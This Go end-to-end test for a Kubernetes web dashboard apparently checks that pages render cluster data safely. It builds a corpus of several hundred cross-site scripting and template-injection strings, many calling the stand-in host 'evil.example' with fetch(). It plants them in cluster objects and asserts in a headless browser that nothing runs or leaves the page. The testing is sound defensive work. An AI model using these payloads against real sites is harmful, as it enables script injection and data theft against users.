package e2e

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/util/retry"

	"tiga/e2e/testbed"
)

// elsewhere is a host that no page of Tiga has a reason to ask.
const elsewhere = "evil.example"

// hostileTexts are a few hundred texts that run, load or send something if any page takes them for more than text.
func hostileTexts() []string {
	run := "window.__pwned=1,fetch('//" + elsewhere + "/x')"
	var out []string
	for _, tag := range []string{"script", "img", "svg", "iframe", "object", "embed", "video", "link", "style", "base", "meta", "form", "body", "details", "math", "template", "input", "marquee"} {
		for _, before := range []string{"", `">`, "'>", "</script>", "</textarea></title></style>", "-->", "]]>", "</pre></td></table>"} {
			out = append(out, fmt.Sprintf(`%s<%s src="//%s/x" href="//%s/x" data="//%s/x" action="//%s/x" onerror="%s" onload="%s" onfocus="%s" autofocus tabindex=0 srcdoc="<script>parent.__pwned=1</script>">%s</%s>`,
				before, tag, elsewhere, elsewhere, elsewhere, elsewhere, run, run, run, run, tag))
		}
	}
	for _, attr := range []string{"onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "hx-on:load", "hx-on::load", "hx-get", "hx-trigger=load hx-get", "hx-sse:connect", "hx-swap-oob", "style", "srcset", "formaction", "data-hx-get", "hx-vals"} {
		for _, quote := range []string{`"`, "'", "`", " "} {
			out = append(out, fmt.Sprintf("%s %s=%s//%s/%s%s autofocus x=%s", quote, attr, quote, elsewhere, run, quote, quote))
		}
	}
	for _, address := range []string{"javascript:" + run, "JaVa\tScRiPt:" + run, "data:text/html,<script>" + run + "</script>", "//" + elsewhere + "/x", `\\` + elsewhere + `\x`, "https://" + elsewhere + "/x", "vbscript:" + run, "blob:x"} {
		out = append(out, address, "[x]("+address+")", "url("+address+")", "<a href="+address+">x</a>", "@import '"+address+"'")
	}
	for _, template := range []string{"{{%s}}", "${%s}", "<%%= %s %%>", "{%% %s %%}", "#{%s}", "{{constructor.constructor('%s')()}}", "js:%s", "javascript:%s"} {
		out = append(out, fmt.Sprintf(template, run))
	}
	for _, r := range []rune{0x01, 0x0b, 0x1b, 0x7f, 0x85, 0xad, 0x200b, 0x202e, 0x2028, 0x2029, 0x2066, 0xfeff, 0xe0001} {
		out = append(out, "a"+string(r)+"<svg onload="+run+">", string(r)+"gnp.exe")
	}
	return append(out, strings.Repeat("<b>", 500), strings.Repeat(`"'`, 500)+"<img src=x onerror="+run+">", strings.Repeat("<a href='//"+elsewhere+"/x'", 200), "&lt;script&gt;"+run, "\\u003cscript\\u003e"+run, "%3Cscript%3E"+run)
}

// hostileObjects puts the texts where an API server takes any text.
func hostileObjects(t *testing.T, cluster *testbed.Cluster) {
	t.Helper()
	all, client, at := hostileTexts(), cluster.Client(), 0
	next := func() string { at++; return all[at%len(all)] }
	annotations := func() map[string]string {
		out := map[string]string{}
		for i := range 60 {
			out[fmt.Sprintf("example.com/a%d", i)] = next()
		}
		return out
	}
	check := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	ctx, options := t.Context(), metav1.CreateOptions{}
	_, err := client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "hostile", Annotations: annotations()}}, options)
	check(err)
	texts := map[string]string{}
	for i, text := range all {
		texts[fmt.Sprintf("key-%d", i)] = text
	}
	_, err = client.CoreV1().ConfigMaps("hostile").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "texts", Annotations: annotations()}, Data: texts}, options)
	check(err)
	_, err = client.CoreV1().Secrets("hostile").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "texts", Annotations: annotations()}, StringData: texts, Type: "Opaque"}, options)
	check(err)
	for _, name := range []string{"one", "two"} {
		main := corev1.Container{Name: "main", Image: "registry.example.com/x:1", WorkingDir: next()}
		for i := range 60 {
			main.Args, main.Command = append(main.Args, next()), append(main.Command, next())
			main.Env = append(main.Env, corev1.EnvVar{Name: fmt.Sprintf("VALUE_%d", i), Value: next()})
		}
		pod, err := client.CoreV1().Pods("hostile").Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: annotations()}, Spec: corev1.PodSpec{Containers: []corev1.Container{main}, NodeName: "nowhere"}}, options)
		check(err)
		pod.Status = corev1.PodStatus{
			Phase: corev1.PodPending, Reason: next(), Message: next(),
			Conditions:        []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionFalse, Reason: next(), Message: next()}},
			ContainerStatuses: []corev1.ContainerStatus{{Name: "main", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: next(), Message: next()}}}},
		}
		_, err = client.CoreV1().Pods("hostile").UpdateStatus(ctx, pod, metav1.UpdateOptions{})
		check(err)
		for i := range 40 {
			reason := next()
			_, err := client.CoreV1().Events("hostile").Create(ctx, &corev1.Event{
				ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("%s.%d", name, i)}, Type: "Warning", Reason: reason[:min(len(reason), 100)], Message: cutTo(next(), 1000),
				InvolvedObject: corev1.ObjectReference{Kind: "Pod", APIVersion: "v1", Namespace: "hostile", Name: pod.Name, UID: pod.UID, FieldPath: next()},
				Source:         corev1.EventSource{Component: next(), Host: next()}, LastTimestamp: metav1.Now(), Count: 1,
			}, options)
			check(err)
		}
	}
	nodes, err := client.CoreV1().Nodes().List(ctx, metav1.ListOptions{Limit: 1})
	check(err)
	name, noted := nodes.Items[0].Name, annotations()
	condition := corev1.NodeCondition{Type: "Hostile", Status: corev1.ConditionTrue, Reason: next(), Message: next()}
	// A node is written by its controllers as well.
	check(retry.RetryOnConflict(retry.DefaultBackoff, func() error {
		node, err := client.CoreV1().Nodes().Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		node.Annotations = noted
		if node, err = client.CoreV1().Nodes().Update(ctx, node, metav1.UpdateOptions{}); err != nil {
			return err
		}
		node.Status.Conditions = append(node.Status.Conditions, condition)
		_, err = client.CoreV1().Nodes().UpdateStatus(ctx, node, metav1.UpdateOptions{})
		return err
	}))
}

// cutTo shortens a text to what an API server takes, at the border of a character.
func cutTo(text string, n int) string {
	if len(text) <= n {
		return text
	}
	return strings.ToValidUTF8(text[:n], "")
}

// TestA21_ChromiumRunsNothingFromACluster opens the pages of objects full of hostile texts, and clicks around in them.
func TestA21_ChromiumRunsNothingFromACluster(t *testing.T) {
	if n := len(hostileTexts()); n < 250 {
		t.Fatalf("%d texts", n)
	}
	cluster := testbed.Start(t, testbed.Options{Name: "hostile", Nodes: 1})
	hostileObjects(t, cluster)
	a := start(t, options{kubeconfig: cluster.Kubeconfig()})
	c := a.signIn("admin", password)
	at := fmt.Sprintf("/clusters/%d", c.clusterID("hostile"))
	for _, text := range hostileTexts()[:40] {
		if r := c.post(at+"/pods/views", url.Values{"name": {cutTo(text, 60)}, "query": {"q=" + url.QueryEscape(text)}, "pinned": {"1"}}); r.status >= http.StatusInternalServerError {
			t.Errorf("a view named %q: %d", text, r.status)
		}
	}
	eventually(t, patience, "the events are read", func() error {
		if r := c.get(at + "/events"); !strings.Contains(r.body, elsewhere) {
			return fmt.Errorf("%d", r.status)
		}
		return nil
	})
	b := a.open()
	if _, err := chromedp.Call(b.ctx, network.Enable, network.EnableParams{}); err != nil {
		t.Fatal(err)
	}
	b.signIn("admin", password)
	nodes, err := cluster.Client().CoreV1().Nodes().List(t.Context(), metav1.ListOptions{Limit: 1})
	if err != nil {
		t.Fatal(err)
	}
	pages := []string{"/", at, at + "/pods", at + "/pods?q=%22%3E%3Csvg+onload%3Dwindow.__pwned%3D1%3E", at + "/pods?f.status=%3Cimg+src%3Dx+onerror%3Dwindow.__pwned%3D1%3E", at + "/events", at + "/events/facet?of=reason", at + "/configmaps", at + "/secrets", at + "/nodes", at + "/namespaces", "/audit", at + "/%3Cscript%3E", at + "/pods/hostile/%3Cimg%20src=x%20onerror=window.__pwned=1%3E"}
	for _, object := range []string{"pods/hostile/one", "pods/hostile/two", "configmaps/hostile/texts", "secrets/hostile/texts", "namespaces/-/hostile", "nodes/-/" + nodes.Items[0].Name} {
		for _, tab := range []string{"", "/yaml", "/events", "/describe"} {
			pages = append(pages, at+"/"+object+tab)
		}
	}
	seen := 0
	for _, page := range pages {
		b.visit(page)
		b.wait("the page is there", `document.readyState === 'complete' && document.querySelector('h1')`)
		// What opens is opened, what can have the focus gets it, and the pointer is moved over everything.
		eval[bool](b, `(document.querySelectorAll('details').forEach(e => e.open = true),
			document.querySelectorAll('[popover]').forEach(e => { try { e.showPopover(); e.hidePopover() } catch {} }),
			document.querySelectorAll('a, button, input, [tabindex]').forEach(e => e.focus()),
			document.querySelectorAll('#main *').forEach(e => ['pointerenter', 'mouseover', 'mouseenter'].forEach(n => e.dispatchEvent(new Event(n, {bubbles: true})))), true)`)
		if eval[bool](b, `window.__pwned !== undefined`) {
			t.Errorf("%s ran what came from the cluster", page)
		}
		if found := eval[string](b, `[...document.querySelectorAll('iframe, object, embed, base, #main img, #main script, #main style, [style*=evil], [srcdoc], [src*="`+elsewhere+`"], [action*="`+elsewhere+`"], [formaction*="`+elsewhere+`"], [onerror], [onload], [onclick], [onfocus]')].map(e => e.outerHTML.slice(0, 200)).join('\n')`); found != "" {
			t.Errorf("%s holds %s", page, found)
		}
		if found := eval[string](b, `[...document.querySelectorAll('a[href]')].filter(e => !['http:', 'https:'].includes(e.protocol) || e.host !== location.host && !(e.protocol === 'https:' && /noopener/.test(e.rel) && /noreferrer/.test(e.rel))).map(e => e.outerHTML.slice(0, 200)).join('\n')`); found != "" {
			t.Errorf("%s leads away: %s", page, found)
		}
		if found := eval[string](b, `[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => /^(data-)?hx-/.test(a.name) && /`+elsewhere+`|__pwned/.test(decodeURIComponent(a.value)) && !a.value.startsWith('/')).map(a => a.name + '=' + a.value.slice(0, 200)).join('\n')`); found != "" {
			t.Errorf("%s obeys %s", page, found)
		}
		if eval[bool](b, `document.body.innerText.includes(`+"`"+elsewhere+"`"+`)`) {
			seen++
		}
	}
	if seen < 15 {
		t.Errorf("only %d pages show a hostile text", seen)
	}
	// What htmx swaps in is treated like what was there from the beginning.
	b.visit(at + "/events")
	b.fill("#q", "evil")
	b.wait("the list is filtered", `location.search.includes('q=evil') && document.querySelectorAll('tr[data-row]').length > 0`)
	b.click("tr[data-row] a[data-row-link]")
	b.wait("the page of an event", `location.pathname.split('/').length === 6`)
	if eval[bool](b, `window.__pwned !== undefined`) {
		t.Error("what was swapped in ran")
	}
	b.quiet()
	b.mu.Lock()
	defer b.mu.Unlock()
	foreign := slices.DeleteFunc(slices.Clone(b.asked), func(u string) bool {
		return strings.HasPrefix(u, a.url+"/") || strings.HasPrefix(u, "data:image/") || u == "about:blank"
	})
	if len(foreign) > 0 || len(b.asked) < len(pages) {
		t.Errorf("of %d requests some left for %q", len(b.asked), foreign)
	}
}
